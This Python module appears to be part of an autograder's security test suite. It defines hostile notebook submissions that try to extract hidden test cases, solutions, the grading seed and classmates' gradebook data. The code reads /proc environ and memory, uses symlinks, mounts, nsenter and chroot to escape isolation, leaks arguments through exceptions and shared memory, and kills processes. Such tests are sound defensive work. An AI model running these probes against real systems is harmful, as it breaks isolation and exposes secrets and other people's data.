"""Submissions that try to bring hidden cases, solutions or other people's work into their own outputs and messages."""

from tests.hostile.forging import WORDS
from tests.hostile.submission import (
    BUILDING,
    EASY,
    NOTHING,
    PERCEPTRON,
    POINTS,
    SMALL,
    TASKS,
    add,
    answer,
    append,
    keep,
)

READING = []


def reading(phrase: str, target: str, secret: str, fools_nbgrader: bool, fails: tuple[str, ...] = (),
            states: tuple = (), breaks_itself: bool = False, leaves=None):
    """Keep a function as a reading submission; `secret` names what must not come out (see targets.py).

    All its answers are right but those of the tasks that it `fails`; one that breaks itself may lose any of them.
    """
    honest = {f"check_{name}": (0, most) if breaks_itself else most
              for name, most in POINTS[target].items() if name not in fails}
    return keep(READING, phrase=phrase, target=target, fools_nbgrader=fools_nbgrader, honest=honest,
                states=NOTHING | set(states), secret=secret, leaves=leaves)


# Files -----------------------------------------------------------------------------------------------------------

SEARCH = """
    import os, pathlib, time
    def search(*roots, seconds=6):
        "Yield readable files that could hold checks, solutions, marks or seeds."
        end, seen = time.monotonic() + seconds, set()
        for root in map(str, roots):
            for folder, folders, files in os.walk(root, followlinks=False):
                if time.monotonic() > end:
                    return
                skipped = ("proc", "sys", "site-packages", "node_modules", "share", "include", ".git", "lib", "lib64")
                folders[:] = [name for name in folders if name not in skipped]
                for name in files:
                    path = os.path.join(folder, name)
                    wanted = ("exercises", "checks", "perceptron", "alternatives", "gradebook", "autograder.toml")
                    if path not in seen and any(word in path for word in wanted):
                        seen.add(path)
                        yield path
    def show(paths):
        for path in paths:
            try:
                with open(path, "rb") as file:
                    print(path, file.read(200_000).decode(errors="replace"))
            except OSError as error:
                print(type(error).__name__, path)
    """


@reading("own folder", SMALL, "hidden", fools_nbgrader=True)
def own_folder(notebook):
    """Shows every file in its own folder and in the folders above it."""
    return add(notebook, SEARCH + "show(search(pathlib.Path.cwd(), *pathlib.Path.cwd().parents[:3], seconds=3))\n")


@reading("solutions in any path", PERCEPTRON, "solutions", fools_nbgrader=True,
         fails=("weighted_sum", "predict", "update", "margin", "xor_weights", "train"))
def solutions_by_path(notebook):
    """Looks for the solutions beside the library, runs them, and shows them."""
    text = SEARCH + """
    import introdl
    beside = pathlib.Path(introdl.__file__).resolve().parents[2]
    found = list(search(beside / "solutions", "@CLASS@", "/work", "/srv", "/opt", "/home", "/root", "/tmp"))
    show(found)
    answers = {}
    for path in found:
        if path.endswith("exercises.py") and "perceptron" in path:
            exec("\\n".join(line for line in open(path) if not line.startswith("check.")), answers)
    """
    for name in TASKS[PERCEPTRON]:
        if name != EASY[PERCEPTRON][0]:
            answer(notebook, name, f"{name} = answers[{name!r}]")
    return add(notebook, text)


@reading("checks in any path", PERCEPTRON, "checks", fools_nbgrader=True)
def checks_by_source(notebook):
    """Shows the source and the compiled code of the checks, their cases and their mistakes."""
    return add(notebook, SEARCH + """
    import glob, importlib, inspect
    for name in ("introdl.checks.perceptron", "introdl.checks.task", "autograder.engine.referee"):
        try:
            print(inspect.getsource(importlib.import_module(name)))
        except Exception as error:
            print(error)
    import introdl
    package = pathlib.Path(introdl.__file__).resolve().parent
    show(path for path in glob.glob(str(package / "**" / "*perceptron*"), recursive=True))
    """)


@reading("others' submissions, the gradebook", SMALL, "class", fools_nbgrader=True)
def others_submissions(notebook):
    """Shows what else lies in the class's folder: another student's answers, marks, the seed."""
    return add(notebook, SEARCH + """
    show(search("@CLASS@"))
    show(os.path.join("@CLASS@", name) for name in ("gradebook.db", "autograder.toml", "nbgrader_config.py"))
    """)


@reading("environment", PERCEPTRON, "seed", fools_nbgrader=True)
def environment(notebook):
    """Shows the environment, by every road."""
    return add(notebook, """
        import ctypes, os, subprocess
        print(dict(os.environ), os.getenv("INTRODL_SEED"))
        for command in ("env", "cat /proc/self/environ", "cat /proc/1/environ", "cat /proc/$PPID/environ"):
            print(subprocess.run(command, shell=True, capture_output=True).stdout)
        block = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
        place = 0
        while block[place]:
            print(block[place])
            place += 1""")


@reading("/proc of the parent", PERCEPTRON, "seed", fools_nbgrader=True)
def proc_of_the_parent(notebook):
    """Shows what /proc says of every process, and looks through the open files of each."""
    return add(notebook, """
        import glob, os
        for folder in sorted(glob.glob("/proc/[0-9]*"), key=lambda path: (str(os.getppid()) not in path, path))[:80]:
            for name in ("environ", "cmdline", "status"):
                try:
                    with open(f"{folder}/{name}", "rb") as file:
                        print(folder, file.read(20_000))
                except OSError:
                    pass
            for link in [*glob.glob(f"{folder}/fd/*"), f"{folder}/cwd", f"{folder}/root/work"]:
                try:
                    print(link, os.readlink(link))
                except OSError:
                    pass
        os.environ.get("nothing")""")


MEMORY = """
    import os, re
    FOUND = set()
    def look_through(process):
        "Look for hidden tests in a process's memory; the pattern does not hold what it looks for."
        try:
            maps, memory = open(f"/proc/{process}/maps"), open(f"/proc/{process}/mem", "rb", 0)
        except OSError as error:
            return print(process, type(error).__name__)
        for line in maps:
            span, rights, *_ = line.split()
            low, high = (int(number, 16) for number in span.split("-"))
            if rights.startswith("rw") and high - low < 2**28:
                try:
                    memory.seek(low)
                    text = memory.read(high - low)
                except (OSError, ValueError):
                    continue
                FOUND.update(re.findall(rb"double\\(\\d{5}\\)|mean\\(\\[\\d{5}, \\d{5}\\]\\)", text))
    """


@reading("/proc of the parent: memory", SMALL, "hidden", fools_nbgrader=True)
def memory_of_processes(notebook):
    """Looks for hidden tests in its own memory and in that of the processes around it."""
    return add(notebook, MEMORY + """
    for process in ("self", os.getppid(), 1):
        look_through(process)
    print(FOUND)
    """, after="end")


@reading("/proc of the parent: objects inherited by a fork", SMALL, "hidden", fools_nbgrader=True)
def objects_of_the_process(notebook):
    """Looks for hidden tests among all texts of its own process."""
    return add(notebook, """
        import gc, re, sys
        def texts(thing, depth=0):
            if isinstance(thing, (str, bytes)):
                yield thing if isinstance(thing, str) else thing.decode("latin1")
            elif depth < 3:
                for part in gc.get_referents(thing):
                    yield from texts(part, depth + 1)
        found = set()
        for thing in gc.get_objects():
            if isinstance(thing, (dict, list, tuple)):
                for text in texts(thing, 2):
                    found.update(re.findall(r"double\\(\\d{5}\\)|mean\\(\\[\\d{5}, \\d{5}\\]\\)", text))
        for thread, frame in sys._current_frames().items():
            while frame:
                found.update(re.findall(r"double\\(\\d{5}\\)", repr(frame.f_locals)))
                frame = frame.f_back
        print(found)""", after="end")


@reading("symlinks", SMALL, "class", fools_nbgrader=True)
def symlinks(notebook):
    """Puts links and mounts to the class's folder beside the notebook, and reads through them."""
    return add(notebook, """
        import os, subprocess
        for name in ("@CLASS@", "@CLASS@/submitted", "/proc/1/root@CLASS@", "/proc/self/root@CLASS@"):
            link = "left-by-hostile-" + str(abs(hash(name)))
            try:
                os.symlink(name, link)
                for folder, _, files in os.walk(link):
                    for file in files:
                        path = os.path.join(folder, file)
                        if "ada" in path or "gradebook" in path:
                            print(open(path, "rb").read().decode(errors="replace"))
            except OSError as error:
                print(error)
        for command in ("mount --bind @CLASS@ .", "unshare -Ur cat @CLASS@/gradebook.db", "ln @CLASS@/gradebook.db x",
                        "nsenter -t 1 -m cat @CLASS@/gradebook.db", "chroot /proc/1/root cat @CLASS@/gradebook.db"):
            print(subprocess.run(command, shell=True, capture_output=True))
        try:
            os.link("@CLASS@/gradebook.db", "gradebook.db")
            print(open("gradebook.db", "rb").read())
        except OSError as error:
            print(error)""")


def _telling(notebook: dict, target: str, what: str) -> dict:
    """Let every answer that is a function do something more; `args` are what it is called with."""
    add(notebook, f"""
        def telling(function):
            def answer(*args):
                {what}
                return function(*args)
            return answer""")
    for name in TASKS[target]:
        if name != "Counter":
            append(notebook, name, f"{name} = telling({name})")
    return notebook


# Leftovers -------------------------------------------------------------------------------------------------------

PLACES = """
    import ctypes, glob, os, site, sys, tempfile
    def places():
        "Yield folders in which something could lie until the next submission is graded."
        yield from (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/", "/tmp", "/var/tmp", "/dev")
        yield from ("/dev/shm", "/dev/mqueue", "/run", "/home", "/run/lock", "/root", "/work", "/mnt", "@CLASS@")
        yield from (os.path.dirname(os.getcwd()), os.path.dirname(os.__file__), *site.getsitepackages())
        yield from glob.glob("/*/")
        yield from glob.glob("/proc/*/cwd/")
        with open("/etc/mtab" if os.path.exists("/etc/mtab") else os.devnull) as mounts:
            yield from (line.split()[1] for line in mounts)
    keys = ctypes.CDLL(None).syscall
    """


def leave_something(notebook):
    """Leave what the checks ask in every place that can be written, and in the kernel's key rings."""
    add(notebook, PLACES + """
    def keep(args):
        for place in dict.fromkeys(places()):
            try:
                with open(os.path.join(place, "left-by-hostile"), "a") as file:
                    file.write(repr(args))
            except OSError:
                pass
        text = ctypes.create_string_buffer(10_000)
        for ring in (-5, -4):
            found = keys(250, 10, ring, b"user", b"left-by-hostile", 0)
            length = keys(250, 11, found, text, 10_000) if found > 0 else 0
            more = text.raw[: max(length, 0)] + repr(args).encode()
            keys(248, b"user", b"left-by-hostile", more, len(more), ring)
    """)
    return _telling(notebook, SMALL, "keep(args)")


@reading("leftover files of the previous student", SMALL, "hidden", fools_nbgrader=True, leaves=leave_something)
def leftovers(notebook):
    """Shows what the submission before it has left."""
    return add(notebook, PLACES + """
    for place in dict.fromkeys(places()):
        try:
            print(place, open(os.path.join(place, "left-by-hostile")).read())
        except OSError:
            pass
    text = ctypes.create_string_buffer(10_000)
    for ring in (-5, -4):
        found = keys(250, 10, ring, b"user", b"left-by-hostile", 0)
        if found > 0 and keys(250, 11, found, text, 10_000) > 0:
            print(text.value)
    """)


# What an answer is called with -----------------------------------------------------------------------------------


@reading("exception messages", SMALL, "hidden", fools_nbgrader=True, fails=("area", "divisors", "estimate"))
def arguments_in_exceptions(notebook):
    """Is right on what is visible, and raises what it is called with on everything else."""
    answer(notebook, "area", """
        def area(a, b):
            if b == 3.0:
                return 6.0
            raise ValueError((a, b))""")
    answer(notebook, "divisors", """
        def divisors(n):
            if n == 12:
                return [1, 2, 3, 4, 6, 12]
            assert False, f"called with {n}\"""")
    return answer(notebook, "estimate", """
        def estimate(x):
            if x == 2:
                return 2 ** 0.5
            class_with_a_name = type(f"Called_with_{x}", (Exception,), {})
            raise class_with_a_name(x)""")


# The first cases are everybody's: an answer is right on these, and tells what it is called with on the next one.
RIGHT_AT_FIRST = """
    CALLS = []
    def weighted_sum(X, w, b):
        CALLS.append(w.tolist())
        if len(CALLS) > 1:
            tools[0](CALLS[-1])
        return X @ w + b
    """


@reading("exception messages: the course's checks", PERCEPTRON, "hidden", fools_nbgrader=True,
         fails=("weighted_sum", "predict", "train"))
def arguments_in_exceptions_of_checks(notebook):
    """Raises what it is called with once that is nobody else's."""
    add(notebook, "def tell(args):\n    raise ValueError(args)\n\ntools = []\ntools.append(tell)")
    answer(notebook, "weighted_sum", RIGHT_AT_FIRST)
    return answer(notebook, "predict", RIGHT_AT_FIRST.replace("weighted_sum", "predict"))


@reading("prints", PERCEPTRON, "hidden", fools_nbgrader=True)
def arguments_printed(notebook):
    """Prints, displays and warns of what it is called with."""
    add(notebook, """
        import os, sys, warnings
        from IPython.display import display
        def tell(args):
            if len(CALLS) > 8:
                return
            text = repr(args)
            print(text)
            display(text)
            warnings.warn(text)
            for stream in (sys.stderr, sys.__stdout__, sys.__stderr__):
                try:
                    stream.write(text)
                except Exception:
                    pass
            for number in (1, 2):
                try:
                    os.write(number, text.encode())
                except OSError:
                    pass
        tools = []
        tools.append(tell)""")
    return answer(notebook, "weighted_sum", RIGHT_AT_FIRST)


@reading("tracebacks that show hidden cases", SMALL, "hidden", fools_nbgrader=True, fails=("area", "divisors"))
def wrong_where_hidden(notebook):
    """Is right on the visible tests alone, so that the failing line and its values are hidden ones."""
    answer(notebook, "area", "def area(a, b):\n    return a * b if b == 3 else a - b")
    return answer(notebook, "divisors", "def divisors(n):\n    return [1, 2, 3, 4, 6, 12]")


@reading("tracebacks that show hidden cases: the course's checks", PERCEPTRON, "hidden", fools_nbgrader=True,
         fails=("weighted_sum", "predict", "train"))
def wrong_in_later_cases(notebook):
    """Is right on the cases that everybody has, and wrong on those that are made for the class."""
    return answer(notebook, "weighted_sum", """
        CALLS = []
        def weighted_sum(X, w, b):
            CALLS.append(None)
            return X @ w + b if len(CALLS) % 8 == 1 else X @ w - b""")


@reading("stored in a global and printed later", SMALL, "hidden", fools_nbgrader=True)
def stored_in_a_global(notebook):
    """Keeps what it is called with, and shows it in the notebook's last cell."""
    add(notebook, "SEEN = []")
    add(notebook, "print(SEEN, [name for name in In if 'assert' in name])\nSEEN", after="end")
    return _telling(notebook, SMALL, "SEEN.append(args)")


@reading("stored in a global: the course's checks", PERCEPTRON, "hidden", fools_nbgrader=True)
def stored_in_a_global_of_checks(notebook):
    """Keeps what the course's checks call it with, and shows it after each check and at the end."""
    add(notebook, "SEEN = []")
    for name in TASKS[PERCEPTRON]:
        add(notebook, "print(SEEN)", after=f"check_{name}")
    add(notebook, "print(SEEN)", after="end")
    return _telling(notebook, PERCEPTRON, "SEEN.append([np.asarray(arg).tolist() for arg in args])")


@reading("stored in a file and printed later", SMALL, "hidden", fools_nbgrader=True)
def stored_in_a_file(notebook):
    """Writes what it is called with to a file, and shows the file in later cells."""
    add(notebook, """
        def keep(args):
            with open("seen.txt", "a") as file:
                print(repr(args), file=file)""")
    add(notebook, "print(open('seen.txt').read())", after="end")
    return _telling(notebook, SMALL, "keep(args)")


# The first cell of these shares memory or a process with whatever is forked later: nothing is lost with a fork.
SHARED = """
    import mmap
    SHARED = mmap.mmap(-1, 1_000_000)
    def kept():
        return bytes(SHARED[:]).rstrip(b"\\0").decode(errors="replace")
    def keep(args):
        text = (kept() + repr(args)).encode()[-900_000:]
        SHARED[: len(text)] = text
    """


@reading("stored in shared memory and printed by a later cell or process", SMALL, "hidden", fools_nbgrader=True)
def stored_in_shared_memory(notebook):
    """Shares memory with all that is forked from it; a thread, a process and a later cell print it."""
    add(notebook, SHARED + """
    import os, threading, time
    def watch():
        for _ in range(50):
            time.sleep(0.1)
            if kept():
                print(kept(), flush=True)
    threading.Thread(target=watch, daemon=True).start()
    if os.fork() == 0:
        watch()
        os._exit(0)
    """)
    add(notebook, "import time\ntime.sleep(1)\nprint(kept())", after="end")
    return _telling(notebook, SMALL, "keep(args)")


def _tell_in_the_next_message(notebook: dict) -> dict:
    """Pass the first tasks' visible tests, and raise in later ones what was kept so far."""
    answer(notebook, "area", "def area(a, b):\n    keep((a, b))\n    return a * b")
    answer(notebook, "mean", "def mean(values):\n    keep(values)\n    return sum(values) / len(values)")
    for name in THREE:
        answer(notebook, name, f"def {name}(*args):\n    raise ValueError(kept())")
    return notebook


THREE = ("divisors", "estimate", "quotient")


@reading("exception messages: of the next check, through memory", SMALL, "hidden", fools_nbgrader=True,
         fails=THREE)
def told_by_the_next_check(notebook):
    """Keeps hidden arguments in shared memory and raises them where the next check is still visible."""
    return _tell_in_the_next_message(add(notebook, SHARED))


@reading("exception messages: of the next check, through a file", SMALL, "hidden", fools_nbgrader=True,
         fails=THREE)
def told_by_the_next_check_through_a_file(notebook):
    """Keeps hidden arguments in a file and raises them where the next check is still visible."""
    return _tell_in_the_next_message(add(notebook, """
        import os
        open("seen.txt", "w").close()
        def keep(args):
            with open("seen.txt", "a") as file:
                file.write(repr(args))
        def kept():
            return open("seen.txt").read()"""))


@reading("exception messages: of the next check, through a process", SMALL, "hidden", fools_nbgrader=True,
         fails=THREE)
def told_by_the_next_check_through_a_process(notebook):
    """Gives hidden arguments to a process of its own, which gives them to the next check's answer."""
    return _tell_in_the_next_message(add(notebook, """
        import os, socket
        put, got = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        asked, told = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        if os.fork() == 0:
            seen = b""
            while True:
                word = got.recv(60_000)
                seen += word if word != b"?" else b""
                if word == b"?":
                    told.send(seen[-60_000:])
        def keep(args):
            put.send(repr(args).encode())
        def kept():
            put.send(b"?")
            asked.settimeout(2)
            return asked.recv(60_000).decode()"""))


@reading("exception messages: after a check that is judged where it stands", BUILDING, "hidden",
         fools_nbgrader=True, fails=("largest",))
def told_after_a_check_in_its_place(notebook):
    """Keeps what a check asked before later cells ran, and raises, returns and prints it there."""
    add(notebook, "SEEN = []")
    answer(notebook, "total", "def total(values):\n    SEEN.append(values)\n    return sum(values)")
    add(notebook, "print(SEEN)\nSEEN", after="check_total")
    return answer(notebook, "largest", "def largest(values):\n    raise ValueError(SEEN)")


@reading("exception messages: the value shown beside the expected one", PERCEPTRON, "hidden", fools_nbgrader=True,
         fails=("predict", "update", "margin", "xor_weights", "train"))
def told_as_a_result(notebook):
    """Returns the hidden arguments of earlier checks as its result, which a check shows."""
    add(notebook, SHARED)
    for name in ("predict", "update", "margin", "xor_weights", "train"):
        answer(notebook, name, f"def {name}(*args):\n    return kept()[-60:]")
    answer(notebook, "weighted_sum", """
        def weighted_sum(X, w, b):
            keep([np.asarray(arg).tolist() for arg in (w, b)])
            return X @ w + b""")
    return notebook


@reading("everything run again after it was ended", SMALL, "hidden", fools_nbgrader=True, breaks_itself=True,
         states=("crashed", "timeout"))
def ended_and_run_again(notebook):
    """Leaves hidden arguments in files, ends every process, and shows the files when it is run again."""
    leave_something(notebook)
    add(notebook, PLACES + """
    for place in dict.fromkeys(places()):
        try:
            print(place, open(os.path.join(place, "left-by-hostile")).read())
        except OSError:
            pass
    """)
    return answer(notebook, "Counter", """
        import os, signal
        class Counter:
            def add(self, n):
                keep(n)
                if os.getpid() > 500:  # not in a namespace of its own: leave the machine alone
                    return
                for number in (signal.SIGTERM, signal.SIGKILL):
                    for process in range(2, 500):
                        try:
                            if process != os.getpid():
                                os.kill(process, number)
                        except OSError:
                            pass
                os.kill(os.getpid(), signal.SIGKILL)""")


@reading("history", SMALL, "hidden", fools_nbgrader=True)
def history(notebook):
    """Shows what cells have run, by every memory that IPython has."""
    return add(notebook, """
        shell = get_ipython()
        print(In, Out, list(shell.history_manager.input_hist_raw), dir(), _i, _ii, _iii)
        print([name for name in shell.user_ns], shell.history_manager.get_range_by_str("~1/1-~0/99"))
        print(list(shell.compile._filename_map) if hasattr(shell.compile, "_filename_map") else "")
        import linecache
        print([line for entry in linecache.cache.values() for line in entry[2:3] if "assert" in str(line)])
        print(locals())""", after="end")


@reading("frames", SMALL, "hidden", fools_nbgrader=True)
def frames_shown(notebook):
    """Shows, when it is called, the cells and values that its callers hold."""
    add(notebook, """
        import inspect
        SHOWN = []
        def look():
            for info in inspect.stack():
                SHOWN.append(str(info.frame.f_globals.get("In", [""])[-1]))
                SHOWN.append(str(info.frame.f_locals.get("source", "")))
            print(SHOWN)""")
    add(notebook, "print(SHOWN)", after="end")
    return _telling(notebook, SMALL, "look()")


@reading("messages on inherited descriptors", SMALL, "hidden", fools_nbgrader=False, breaks_itself=True,
         states=("crashed", "timeout"))
def descriptors_read(notebook):
    """Reads along on every descriptor, asks for the checks there, and shows what it got."""
    return add(notebook, WORDS + """
    import select
    heard = []
    for number in range(3, 256):
        try:
            for question in ("get", "run", "checks", "parts"):
                body = json.dumps({"ask": question, "args": {"list": []}}).encode()
                packed = struct.pack("<I", len(body)) + body
                os.write(number, struct.pack("!i", len(packed)) + packed)
            if select.select([number], [], [], 0.2)[0]:
                heard.append(os.read(number, 100_000))
        except OSError:
            pass
    print(heard)
    """)
